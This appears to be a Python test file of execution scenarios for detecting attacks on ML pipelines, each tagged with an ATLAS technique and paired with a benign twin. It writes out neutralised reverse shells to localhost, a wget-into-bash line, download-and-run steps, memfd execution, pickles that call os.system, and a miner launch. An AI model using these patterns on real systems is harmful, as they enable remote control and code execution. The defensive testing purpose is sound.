# SPDX-License-Identifier: Apache-2.0
"""Scenarios of the family execution: something runs that is not the pipeline's."""

import posix

from scenario import *


def scenario(name, technique, pipeline, names, program, act, twin, **more):
    return Scenario(name, "execution", technique, pipeline, names, program, act, twin, **more)


def copied_to(folder):
    """A program is put into a folder and executed."""
    return f"""
import shutil
path = {folder} + "/helper"
shutil.copy("/bin/true", path)
subprocess.run([path], check=True)
os.unlink(path)
"""


def only_written_to(folder):
    return f"""
import shutil
path = {folder} + "/helper"
shutil.copy("data/train/shard-00000.tar", path)
open(path, "rb").read()
os.unlink(path)
"""


MEMFD = """
memory = os.memfd_create("jit")
os.write(memory, open({what!r}, "rb").read())
"""
EXECUTED = """
child = os.fork()
if child == 0:
    try:
        os.execve(memory, ["helper"], {})
    finally:
        os._exit(1)
os.waitpid(child, 0)
"""
DELETED = """
import shutil
shutil.copy({what!r}, "out/helper")
memory = os.open("out/helper", os.O_RDONLY)
os.unlink("out/helper")
"""
REVERSE = """
import socket
with socket.create_connection(("127.0.0.1", int(os.environ["LISTENER"]))) as peer:
    {what}
"""
POISONED = pickled({"samples": Call(posix.system, "true"), "at": 1.0})
# A child, and then bytes that no unpickler reads.
BROKEN = b"cposix\nsystem\n(S'exit 0'\ntR\xff"
GOOD = pickled({"samples": 300, "at": 2.0, "means": [0.5] * 40})
CACHE = "cache/features.pkl"
DOWNLOADED = """
import urllib.request
os.makedirs("out/runtime", exist_ok=True)
with open("out/runtime/{name}", "wb") as file:
    file.write(urllib.request.urlopen(os.environ["FILES"] + "/{name}").read())
"""

SCENARIOS = [
    scenario("shell-below-python", "AML.T0050", Training, "/dash", "/dash",
             "subprocess.run(['/bin/sh', '-c', 'id >/dev/null'])", "subprocess.run(['/bin/uname', '-r'], stdout=subprocess.DEVNULL)"),
    scenario("shell-below-forest", "AML.T0050", Forest, "/dash", "/dash", "os.system('id >/dev/null')", "os.getuid()"),
    scenario("shell-below-torch", "AML.T0050", Torch, "/bash", "/bash",
             "subprocess.run(['/bin/bash', '-c', 'id >/dev/null'])", "os.getuid()"),
    scenario("perl-in-preparation", "AML.T0050", Preparation, "/perl", "/perl", "perl -e 1", "awk 'BEGIN { exit 0 }'"),
    scenario("python-dropper", "AML.T0050", Training, "/python3.11", "python3.11",
             "subprocess.run([sys.executable, '-c', 'import os; os.listdir(\"/\")'])",
             "multiprocessing.get_context('fork').Process(target=os.getpid).start()"),
    scenario("from-temporary-folder", "AML.T0074", Training, "/helper", "/helper",
             copied_to("tempfile.mkdtemp()"), only_written_to("tempfile.mkdtemp()")),
    scenario("from-var-tmp", "AML.T0074", Preparation, "/var/tmp/helper", "/helper",
             "cat /bin/true >/var/tmp/helper; chmod 755 /var/tmp/helper; /var/tmp/helper",
             "cat data/prepared/labels.txt >/var/tmp/helper; cat /var/tmp/helper >/dev/null"),
    scenario("from-shared-memory", "AML.T0107", Training, "/dev/shm/helper", "/helper",
             copied_to("'/dev/shm'"), only_written_to("'/dev/shm'")),
    scenario("from-memfd", "AML.T0107", Training, "memfd:jit", "memfd:jit",
             MEMFD.format(what="/bin/true") + EXECUTED, MEMFD.format(what="config.json") + "os.pread(memory, 9, 0)"),
    scenario("from-memfd-torch", "AML.T0107", Torch, "memfd:jit", "memfd:jit",
             MEMFD.format(what="/bin/true") + EXECUTED, MEMFD.format(what="config.json") + "os.pread(memory, 9, 0)"),
    scenario("from-deleted-file", "AML.T0107", Training, "/out/helper", "/helper",
             DELETED.format(what="/bin/true") + EXECUTED, DELETED.format(what="config.json") + "os.pread(memory, 9, 0)"),
    scenario("curl-below-python", "AML.T0011.001", Training, "/curl", "/curl",
             "subprocess.run(['/usr/bin/curl', '-s', '-o', '/dev/null', os.environ['FILES'] + '/rows'])",
             "import urllib.request; urllib.request.urlopen(os.environ['FILES'] + '/rows').read()"),
    scenario("wget-into-shell", "AML.T0011.001", Preparation, "/wget", "/wget",
             "wget -q -O - $FILES/script | bash", "sed -n 1p prepare.sh >/dev/null"),
    scenario("curl-below-make", "AML.T0011.001", Build, "/curl", "/curl",
             lambda p: {"ALSO": "/usr/bin/curl -s -o build/rows $(FILES)/rows"}, lambda p: {"ALSO": "rm -f build/rows"}),
    scenario("downloaded-runtime", "AML.T0011.001", Training, "/out/runtime/program", "/program",
             DOWNLOADED.format(name="program") +
             "os.chmod('out/runtime/program', 0o755)\nsubprocess.run(['out/runtime/program'], check=True)",
             DOWNLOADED.format(name="rows") + "open('out/runtime/rows').read()"),
    scenario("unknown-program", "AML.T0010.001", Training, "/tools/agent", "/agent",
             both(program("tools/agent"), writes("tools/notes.txt", "", also="subprocess.run(['tools/agent'], check=True)")),
             both(program("tools/agent"), writes("tools/notes.txt", "", also="os.path.exists('tools/agent')"))),
    scenario("unknown-program-in-preparation", "AML.T0010.001", Preparation, "/tools/agent", "/agent",
             both(program("tools/agent"), lambda p: {"ALSO": "tools/agent"}),
             both(program("tools/agent"), lambda p: {"ALSO": "test -x tools/agent"})),
    scenario("compiler-wrapper", "AML.T0010.001", Build, "tools/g++", "/dash",
             both(replaces("Makefile", "CXX := /usr/bin/g++", "CXX := tools/g++"),
                  lambda p: p.write("tools/g++", '#!/bin/sh\nexec /usr/bin/g++ "$@"\n', mode=0o755) and None),
             both(replaces("Makefile", "CXXFLAGS := -O1", "CXXFLAGS := -O2"),
                  lambda p: p.write("tools/g++", '#!/bin/sh\nexec /usr/bin/g++ "$@"\n', mode=0o755) and None)),
    scenario("compiler-plugin", "AML.T0010.001", Build, "/tools/hook.so", "/cc1plus",
             both(replaces("Makefile", "CXXFLAGS := -O1", "CXXFLAGS := -O1 -fplugin=tools/hook.so"),
                  lambda p: p.write("tools/hook.so", library(), mode=0o755) and {"status": 2}),
             both(replaces("Makefile", "CXXFLAGS := -O1", "CXXFLAGS := -O2"),
                  lambda p: p.write("tools/hook.so", library(), mode=0o755) and None)),
    scenario("loader-as-program", "AML.T0107", Training, "/out/quiet.bin", "ld-linux-x86-64.so.2",
             both(program("out/quiet.bin"), writes("out/n", "", also="os.chmod('out/quiet.bin', 0o644); "
                  "subprocess.run(['/lib64/ld-linux-x86-64.so.2', 'out/quiet.bin'])")),
             both(program("out/quiet.bin"), writes("out/n", "", also="os.chmod('out/quiet.bin', 0o644); os.stat('out/quiet.bin')"))),
    scenario("reverse-shell", "AML.T0072", Training, "/dash", "/dash",
             REVERSE.format(what="subprocess.run(['/bin/sh'], stdin=peer, stdout=peer, stderr=peer)"),
             REVERSE.format(what="peer.recv(64)")),
    scenario("reverse-shell-of-bash", "AML.T0072", Preparation, "/bash", "/bash",
             "bash -c 'exec 5<>/dev/tcp/127.0.0.1/$LISTENER; bash <&5 >&5 2>&5'",
             "exec 5<>/dev/tcp/127.0.0.1/$LISTENER; read -r line <&5; exec 5>&-"),
    scenario("pickle-with-a-call", "AML.T0011.000", Training, "/" + CACHE, "python3.11",
             writes(CACHE, POISONED), writes(CACHE, GOOD)),
    scenario("load-that-failed", "AML.T0076", Training, "/" + CACHE, "python3.11",
             writes(CACHE, BROKEN), writes(CACHE, GOOD[:-3])),
    scenario("pickle-with-code", "AML.T0011.000", Training, "/" + CACHE, "python3.11",
             writes(CACHE, pickled({"samples": Call(exec, "import os")})), writes(CACHE, pickled({"samples": [1, 2]}, 2))),
    scenario("model-with-a-call", "AML.T0011.000", Torch, "/models/backbone.pt", "python3.11",
             writes("models/backbone.pt", pickled(Call(posix.system, "true"), 2), status=1), touches("models/backbone.pt")),
    scenario("joblib-with-a-call", "AML.T0011.000", Forest, "/models/scaling.joblib", "python3.11",
             writes("models/scaling.joblib", pickled({"factor": 2.0, "x": Call(posix.system, "true")})),
             touches("models/scaling.joblib")),
    scenario("miner", "AML.T0048.000", Training, "/tools/xmrig", "/xmrig",
             both(program("tools/xmrig"), writes("tools/n", "", also="subprocess.run(['tools/xmrig', '-o', 'stratum+tcp://127.0.0.1:1'])")),
             writes("tools/xmrig.txt", "not executed\n")),
]
